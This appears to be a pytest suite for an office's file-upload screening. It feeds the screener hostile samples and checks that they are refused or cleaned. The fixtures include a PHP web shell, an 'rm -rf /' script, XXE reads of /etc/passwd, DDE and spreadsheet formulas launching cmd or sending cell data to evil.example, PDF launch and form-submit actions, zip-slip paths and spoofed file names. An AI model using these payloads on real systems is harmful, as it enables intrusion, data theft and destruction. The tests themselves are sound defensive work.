"""有害和损坏的上传：one list of them all. Each is refused in words and leaves nothing, or is kept without its harm."""

import io
import zipfile
import zlib

import pytest

from mingtang.audit.models import Entry
from mingtang.contents.content import ALLOWED
from mingtang.contents.photographs import NOT_A_PICTURE
from mingtang.contents.reaching import FETCHES, STARTS, STRANGE
from mingtang.files import storage
from mingtang.files.models import Attachment, Screening
from mingtang.language.papers.pdf_guard import MAX_STREAM
from tests.contents import hostile, material
from tests.contents.hostile import DOCX, XLSX
from tests.files.conftest import on_disk, refused

LOCKED = "这个文件加了密码，无法检查内容，请去掉密码再上传。"
MACROS = "这个文件里带有宏，请打开后另存为不带宏的 .docx 或 .xlsx 再上传。"
ACTIVE = "这个文件里带有宏或者控件，请打开后另存为不带宏的 .docx 或 .xlsx 再上传。"
EMBEDDED = "这个文件里嵌着别的文件，无法检查，请删去嵌入的对象，把那些文件单独上传。"
OLD = "这是旧版的 Word、Excel 或 WPS 文件，请打开后另存为 .docx 或 .xlsx 再上传。"
RTF = "这是 RTF 文件，请用 Word 或 WPS 另存为 .docx 再上传。"
SLIDES = f"这种办公文件还不能检查内容。{ALLOWED}演示文稿请导出为 PDF。"
PACKED = "这是压缩包，请解压后把里面的文件逐个上传。"
PROGRAM = f"这是程序文件，不能上传。{ALLOWED}"
WEB = f"这是网页文件，不能上传。{ALLOWED}"
MOVING = f"这是视频或音频，不能作附件上传。{ALLOWED}"
OTHER_IMAGE = "这种图片不能上传，请另存为 JPG 或者 PNG 再上传。"
HEIC = "这是手机的 HEIC 照片，请在手机里转成 JPG（苹果手机：设置、相机、格式，选“兼容性最佳”）再上传。"
UNKNOWN = f"认不出这个文件的类型。{ALLOWED}"
ACTS = "这个 PDF 里带有脚本或者启动程序的动作，请用“打印为 PDF”重新导出后再上传。"
CARRIES = "这个 PDF 里夹带了别的文件，请去掉夹带的文件，把它们单独上传。"
GROWS = "这个 PDF 解压后过大，可能会拖垮系统，没有收下；请核对文件来源，用“打印为 PDF”重新导出后再上传。"
BROKEN_PDF = "这个 PDF 损坏了，打不开，请重新导出后再上传。"
LOCKED_PDF = "这个 PDF 加了打开密码，无法检查内容，请去掉密码再上传。"
PIXELS = "这张图片的像素太多（上限 {} 万），请用普通清晰度重拍或者缩小后再上传。"
BROKEN = "这个文件损坏了，打不开，请重新保存后再上传。"
EMPTY = "这个文件是空的，没有内容，请核对后重新选择。"
BOMB = "“Word 文件”解压后过大，可能会拖垮系统，没有读取；请核对文件来源，删去无关内容后另存再试。"
DAMAGED = "“Word 文件”已损坏，打不开；请重新导出或重新下载后再试。"
DECLARES = "“Word 文件”里有不正常的内部定义，可能会拖垮系统，没有读取；请用 WPS 或 Word 重新另存后再试。"
UNREAD = "“{}”的内部结构已损坏，没有读完；请用 WPS 或 Office 打开并另存后再试。"
NAMED = "文件名以 .{} 结尾，内容却是{}，请核对文件，没有选错就把结尾改成 .{}。"
TEXT_NAMED = "文件名以 .{} 结尾，内容却是文本文件，请核对文件，没有选错就把结尾改成 .txt。"

ENTITY = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
GROWING = '<!DOCTYPE x [<!ENTITY a "aaa"><!ENTITY b "&a;&a;&a;">]>'
WITH_A_FILE = "/Names<</EmbeddedFiles<</Names[(a.exe)<</Type/Filespec/F(a.exe)/EF<</F 4 0 R>>>>]>>>>"
CMD = "=cmd|'/C calc'!A0"
DDE_LINK = f'<externalLink {hostile.S}><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
VBA = '<Override PartName="/word/x.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>'
ROW = f'<worksheet {hostile.S}><sheetData><row r="x"/></sheetData></worksheet>'


def parts(**told):
    """A Word file with these parts."""
    return material.with_parts(DOCX, **told)


def pdf(more):
    return material.pdf("1", more=more)


REFUSED = {
    # 程序、脚本，叫什么名字都一样。
    "nothing": (b"", "空.docx", EMPTY),
    "program": (b"MZ\x90\x00" + bytes(200), "安装.exe", PROGRAM),
    "program under another name": (b"\x7fELF" + bytes(200), "总结.pdf", PROGRAM),
    "program of a virtual machine": (b"\xca\xfe\xba\xbe" + bytes(200), "A.class", PROGRAM),
    "program with a document behind it": (b"MZ" + bytes(100) + DOCX, "方案.docx", PROGRAM),
    "script": (b"#!/bin/sh\nrm -rf /\n", "run.txt", PROGRAM),
    "batch file": (b"@echo off\r\ndel *.*", "清理.bat", TEXT_NAMED.format("bat")),
    "script of the desktop": (b'CreateObject("WScript.Shell")', "a.vbs", TEXT_NAMED.format("vbs")),
    "script of a web server": (b"<?php system($_GET[0]); ?>", "通知.txt", WEB),
    "script of a web server by its name": (b"echo 1;", "通知.php", TEXT_NAMED.format("php")),
    "shortcut": (b"L\0\0\0\x01\x14\x02\0" + bytes(100), "通知.lnk", UNKNOWN),
    "shortcut to an address": (b"[InternetShortcut]\nURL=file://evil/x", "通知.url", TEXT_NAMED.format("url")),
    "installer": (material.ole("MsiTable"), "a.msi", OLD),
    "help file": (b"ITSF" + bytes(100), "a.chm", UNKNOWN),
    "flash": (b"CWS\x09" + bytes(100), "a.swf", UNKNOWN),
    # 网页和会当作网页的。
    "web page": (b"<!DOCTYPE html><html><body>1</body></html>", "通知.html", WEB),
    "web page as text": ("通知\n<script>alert(1)</script>".encode(), "通知.txt", WEB),
    "web page in wide letters": ("<script>alert(1)</script>".encode("utf-16"), "通知.txt", WEB),
    "web page of an application": (b"<hta:application><script>x</script>", "a.hta", WEB),
    "web page packed as mail": (b"MIME-Version: 1.0\n\n=3Cscript=3E", "a.mht", TEXT_NAMED.format("mht")),
    "drawing with script": (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>', "图.svg", WEB),
    "drawing called text": (b"<svg onload=alert(1)>", "图.txt", WEB),
    "drawing packed": (b"\x1f\x8b" + bytes(50), "图.svgz", PACKED),
    "flat office document": (b'<?xml version="1.0"?><?mso-application progid="Word.Document"?><w/>', "a.doc", WEB),
    # 压缩包和装不进检查的。
    "zip": (hostile.plain_zip(), "材料.zip", PACKED),
    "zip called a document": (hostile.plain_zip(), "材料.docx", PACKED),
    "rar": (b"Rar!\x1a\x07\x00" + bytes(50), "材料.rar", PACKED),
    "seven zip": (b"7z\xbc\xaf\x27\x1c" + bytes(50), "材料.7z", PACKED),
    "disk": (bytes(40_000), "a.iso", UNKNOWN),
    "bomb": (material.bomb(), "方案.docx", BOMB),
    "crowd of parts": (hostile.crowded(), "方案.docx", BOMB),
    "cut zip": (DOCX[:-200], "方案.docx", BROKEN),
    "zip with a wrong sum": (hostile.wrong_sum(), "方案.docx", DAMAGED),
    "parts that lead out": (hostile.entries(("../../etc/cron.d/x", "x")), "方案.docx", STRANGE),
    "parts that lead to the root": (hostile.entries(("/etc/passwd", "x")), "方案.docx", STRANGE),
    "parts that lead out backwards": (hostile.entries(("word\\..\\x", "x")), "方案.docx", STRANGE),
    # 旧版、加密、宏和别的办公文件。
    "slides": (
        hostile.typed_as("wordprocessingml.document.main", "presentationml.presentation.main"), "培训.pptx", SLIDES,
    ),
    "old word": (material.ole("WordDocument"), "方案.doc", OLD),
    "old word called a new one": (material.ole("WordDocument"), "方案.docx", OLD),
    "rich text with an object": (b"{\\rtf1{\\object\\objdata 0105}}", "方案.doc", RTF),
    "locked word": (material.ole("EncryptionInfo", "EncryptedPackage"), "方案.docx", LOCKED),
    "locked parts": (material.locked(DOCX), "方案.docx", LOCKED),
    "macros": (
        hostile.typed_as(
            "vnd.openxmlformats-officedocument.wordprocessingml.document.main", "vnd.ms-word.document.macroEnabled.main"
        ),
        "方案.docm",
        MACROS,
    ),
    "macros left in a plain one": (parts(**{"word/vbaProject.bin": b"m"}), "方案.docx", ACTIVE),
    "macros under another name": (hostile.typed_as("</Types>", VBA, **{"word/x.bin": b"v"}), "方案.docx", ACTIVE),
    "controls": (parts(**{"word/activeX/activeX1.bin": b"a"}), "方案.docx", ACTIVE),
    "old macro sheet": (material.with_parts(XLSX, **{"xl/macrosheets/sheet1.xml": "<x/>"}), "表.xlsx", ACTIVE),
    "embedded object": (parts(**{"word/embeddings/oleObject1.bin": b"o"}), "方案.docx", EMBEDDED),
    "embedded and damaged": (parts(**{"word/embeddings/a.xlsx": b"garbage"}), "方案.docx", EMBEDDED),
    "embedded and locked": (
        parts(**{"word/embeddings/a.xlsx": material.ole("EncryptedPackage")}), "方案.docx", EMBEDDED,
    ),
    "embedded in the embedded": (
        parts(**{"word/embeddings/a.xlsx": material.with_parts(XLSX, **{"xl/embeddings/b.xlsx": b"x"})}),
        "方案.docx",
        EMBEDDED,
    ),
    "another document put in whole": (parts(**{"word/afchunk1.htm": "<html>机密</html>".encode()}), "a.docx", EMBEDDED),
    "program where pictures lie": (hostile.with_media(b"MZ" + bytes(100)), "方案.docx", EMBEDDED),
    "zip where pictures lie": (hostile.with_media(hostile.plain_zip()), "方案.docx", EMBEDDED),
    # 自己去取东西、启动程序的。
    "entities that reach for files": (hostile.declared(ENTITY), "方案.docx", DECLARES),
    "entities in wide letters": (hostile.declared(ENTITY, "utf-16"), "方案.docx", DECLARES),
    "entities that grow": (hostile.declared(GROWING), "方案.docx", DECLARES),
    "letters that nobody checks": (hostile.declared("", "utf-7"), "方案.docx", DECLARES),
    "field that starts a program": (hostile.field(' DDEAUTO c:\\\\cmd.exe "/k calc" '), "方案.docx", STARTS),
    "field cut in pieces": (hostile.field(" DD", "EAU", "TO cmd"), "方案.docx", STARTS),
    "short field": (hostile.word('<w:p><w:fldSimple w:instr="DDE excel x"/></w:p>'), "方案.docx", STARTS),
    "formula that starts a program": (hostile.sheet(CMD), "表.xlsx", STARTS),
    "link that starts a program": (
        material.with_parts(XLSX, **{"xl/externalLinks/externalLink1.xml": DDE_LINK}), "表.xlsx", STARTS,
    ),
    "formula that fetches": (hostile.sheet('=WEBSERVICE("http://evil.example/?"&A2)'), "表.xlsx", FETCHES),
    "connection to data": (material.with_parts(XLSX, **{"xl/connections.xml": "<connections/>"}), "表.xlsx", FETCHES),
    "row that starts a program": (f"姓名,电话\n{CMD},1\n".encode(), "名单.csv", STARTS),
    "row in quotation marks": (f'姓名,"+{CMD[1:]}"\n'.encode("gb18030"), "名单.csv", STARTS),
    "query for a sheet": (b"WEB\n1\nhttp://evil.example", "a.iqy", TEXT_NAMED.format("iqy")),
    "links that are no links": (parts(**{"word/_rels/document.xml.rels": b"<Relationships"}), "方案.docx", STRANGE),
    # 打不开的。
    "no body": (parts(**{"word/document.xml": b""}), "方案.docx", UNREAD.format("方案.docx")),
    "body without end": (hostile.deep(), "方案.docx", UNREAD.format("方案.docx")),
    "row without number": (
        material.with_parts(XLSX, **{"xl/worksheets/sheet1.xml": ROW}), "表.xlsx", UNREAD.format("表.xlsx"),
    ),
    # PDF。
    "locked pdf": (material.LOCKED_PDF, "方案.pdf", LOCKED_PDF),
    "broken pdf": (b"%PDF-1.7\nnothing", "方案.pdf", BROKEN_PDF),
    "cut pdf": (material.pdf("通知")[:200], "方案.pdf", BROKEN_PDF),
    "pdf that grows": (material.pdf("1", blanks=MAX_STREAM), "方案.pdf", GROWS),
    "pdf that acts": (pdf("/OpenAction<</S/JavaScript/JS(app.alert)>>"), "表.pdf", ACTS),
    "pdf that acts, spelled otherwise": (pdf("/OpenAction<</S/J#61vaScript/JS(app.alert)>>"), "表.pdf", ACTS),
    "pdf that starts a program": (pdf("/AA<</WC<</S/L#61unch/F(calc.exe)>>>>"), "表.pdf", ACTS),
    "pdf that opens another": (pdf("/OpenAction<</S/GoToR/F(\\\\\\\\evil\\\\share)/D[0]>>"), "表.pdf", ACTS),
    "pdf that sends its form": (pdf("/OpenAction<</S/SubmitForm/F(http://evil.example)>>"), "表.pdf", ACTS),
    "pdf with a script for an address": (pdf("/OpenAction<</S/URI/URI(javascript:alert\\(1\\))>>"), "表.pdf", ACTS),
    "pdf with a film": (pdf("/X<</Subtype/RichMedia>>"), "表.pdf", ACTS),
    "pdf that acts, packed": (material.packed_pdf(b"<</S/JavaScript/JS(app.alert)>>"), "表.pdf", ACTS),
    "pdf with a form of another kind": (pdf("/AcroForm<</Fields[]/X#46A()>>"), "表.pdf", ACTS),
    "pdf with a file pinned on": (pdf("/X<</Subtype/File#41ttachment>>"), "表.pdf", CARRIES),
    "pdf with a file inside": (pdf(WITH_A_FILE), "表.pdf", CARRIES),
    # 图片、影音。
    "gif": (material.moving("GIF"), "动图.gif", OTHER_IMAGE),
    "gif that is a script": (b"GIF89a/*" + bytes(10) + b"*/=1;alert(1)", "图.png", OTHER_IMAGE),
    "bitmap": (b"BM" + bytes(100), "图.png", OTHER_IMAGE),
    "heic": (b"\x00\x00\x00\x18ftypheic" + bytes(100), "IMG_1.HEIC", HEIC),
    "film": (b"\x00\x00\x00\x18ftypmp42" + bytes(100), "会议.mp4", MOVING),
    "picture bomb": (material.png_bomb(), "图.png", PIXELS.format(2500)),
    "somewhat too large a picture": (material.png_bomb(8000, 8000), "图.png", PIXELS.format(2500)),
    "photograph that says it is enormous": (hostile.huge_jpeg(), "图.jpg", PIXELS.format(5000)),
    "remark that grows": (hostile.png_with(b"zTXt", b"x\0\0" + zlib.compress(bytes(9**8))), "图.png", NOT_A_PICTURE),
    "colours that grow": (hostile.png_with(b"iCCP", b"x\0\0" + zlib.compress(bytes(9**8))), "图.png", NOT_A_PICTURE),
    "half a photograph": (material.photograph()[:2000], "照片.jpg", NOT_A_PICTURE),
    "page called a photograph": (b"\xff\xd8\xff\xe0<?php system(1);?>", "照片.jpg", NOT_A_PICTURE),
    "noise": (bytes(range(256)) * 4, "数据.dat", UNKNOWN),
    # 文件名说的是另一回事。
    "pdf called a document": (material.pdf("1"), "总结.docx", NAMED.format("docx", "PDF 文件", "pdf")),
    "document called a table": (DOCX, "总结.xlsx", NAMED.format("xlsx", "Word 文件", "docx")),
    "two endings": (material.png(), "图.pdf．exe", NAMED.format("exe", "图片", "png")),
    "name that reads backwards": (material.pdf("1"), "方案\u202excod.exe", NAMED.format("exe", "PDF 文件", "pdf")),
    "name with a hidden stream": (DOCX, "方案.docx:evil.exe", NAMED.format("exe", "Word 文件", "docx")),
    "name cut by nothing": (DOCX, "方案.docx\0.exe", NAMED.format("exe", "Word 文件", "docx")),
}  # fmt: skip


@pytest.mark.parametrize("case", REFUSED)
def test_what_is_not_taken_is_refused_in_words_and_leaves_nothing(case, town, officer, files_dir):
    data, name, reason = REFUSED[case]
    entries = Entry.rows.count()
    assert refused(data, name, unit=town, by=officer) == (reason,)
    left = (Attachment.rows.count(), Screening.rows.count(), on_disk(files_dir), Entry.rows.count())
    assert left == (0, 0, [], entries)


HARMLESS = {
    # 打开时会自己去取的链接切断，点了会出事的也切断。
    "template from elsewhere": (
        hostile.linked("attachedTemplate", "http://evil.example/x.dotm", name="word/_rels/settings.xml.rels"),
        *("方案.docx", "方案.docx", b"evil"),
    ),
    "object from elsewhere": (hostile.linked("oleObject", "http://evil.example/x!"), "方案.docx", "方案.docx", b"evil"),
    "picture that tells who reads": (hostile.linked("image", "http://evil.example/"), "a.docx", "a.docx", b"evil"),
    "link to a share": (hostile.linked("hyperlink", "file://evil/share"), "a.docx", "a.docx", b"evil"),
    "link that is a script": (hostile.linked("hyperlink", "javascript:evil()"), "a.docx", "a.docx", b"evil"),
    "link that starts a tool": (hostile.linked("hyperlink", "ms-msdt:/id evil"), "a.docx", "a.docx", b"evil"),
    # 只有查过的那一份留下来。
    "two bodies of one name": (hostile.twice(), "方案.docx", "方案.docx", b"first-body"),
    "page behind a document": (DOCX + b"<script>evil()</script>", "方案.docx", "方案.docx", b"evil"),
    "page before a pdf": (b"%PDF-1.7\n<script>evil()</script>\n" + material.pdf("1")[9:], "表.pdf", "表.pdf", b"evil"),
    "zip behind a pdf": (material.pdf("1") + hostile.plain_zip(), "表.pdf", "表.pdf", b"PK\x03\x04"),
    "zip behind a photograph": (material.photograph((40, 30)) + XLSX, "照片.jpg", "照片.jpg", b"PK\x03\x04"),
    "page behind a photograph": (hostile.picture("JPEG") + b"<script>evil", "照片.jpg", "照片.jpg", b"evil"),
    "script in a remark": (hostile.png_with(b"tEXt", b"C\0<?php evil();?>"), "图.png", "图.png", b"evil"),
    # 谁、在哪里、用什么。
    "place of a photograph": (material.photograph((40, 30)), "照片.jpg", "照片.jpg", b"PhoneMaker"),
    "place of a photograph in a document": (
        hostile.with_media(material.photograph((40, 30)), "word/media/image1.jpg"),
        *("方案.docx", "方案.docx", b"PhoneMaker"),
    ),
    "author": (hostile.signed_by("Evil Author"), "方案.docx", "方案.docx", b"Evil Author"),
    # 公式只在别人的表格程序里才是公式；这里只供下载。
    "row that is a formula": (b'=HYPERLINK("http://a.example"),1\n', "表.csv", "表.csv", b"\0"),
    "letters that hide marks": (b"+ADw-script+AD4-alert(1)", "说明.txt", "说明.txt", b"<"),
    # 文件名。
    "name that is a path": (DOCX, "../../etc/方案.docx", "方案.docx", b"\xff\xff\xff\xff\xff"),
    "name that is a device": (DOCX, "con.docx", "_con.docx", b"evil"),
    "name that is far too long": (DOCX, "长" * 5000 + ".docx", "长" * 66 + ".docx", b"evil"),
    "name that is a mark": (DOCX, "<img src=x>.docx", "-img src=x-.docx", b"evil"),
    "name of two lines": (DOCX, "a\r\nSet-Cookie: x.docx", "a Set-Cookie- x.docx", b"evil"),
}  # fmt: skip


def all_in(data):
    """Everything in a kept file, the parts of a package unpacked, and their names."""
    if not data.startswith(b"PK\x03\x04"):
        return data
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return b"\n".join([*(name.encode() for name in archive.namelist()), *map(archive.read, archive.namelist())])


@pytest.mark.parametrize("case", HARMLESS)
def test_what_is_kept_is_kept_without_its_harm(case, keep):
    data, sent_as, name, gone = HARMLESS[case]
    kept = keep(data, sent_as)
    held = all_in(storage.path_of(kept.stored).read_bytes())
    assert (kept.name, held.count(gone)) == (name, 0)


def test_a_link_that_points_nowhere_dangerous_stays(keep):
    kept = keep(hostile.linked("hyperlink", "https://www.gov.example/a"), "方案.docx")
    assert all_in(storage.path_of(kept.stored).read_bytes()).count(b"https://www.gov.example/a") == 1


def test_a_part_that_is_a_link_to_another_file_is_a_plain_part(keep):
    kept = keep(hostile.entries(hostile.symlink("word/link.xml", "/etc/passwd")), "方案.docx")
    with zipfile.ZipFile(storage.path_of(kept.stored)) as archive:
        assert {entry.external_attr >> 16 & 0o170000 for entry in archive.infolist()} <= {0, 0o100000}


def test_the_list_is_long():
    assert len(REFUSED) + len(HARMLESS) >= 120
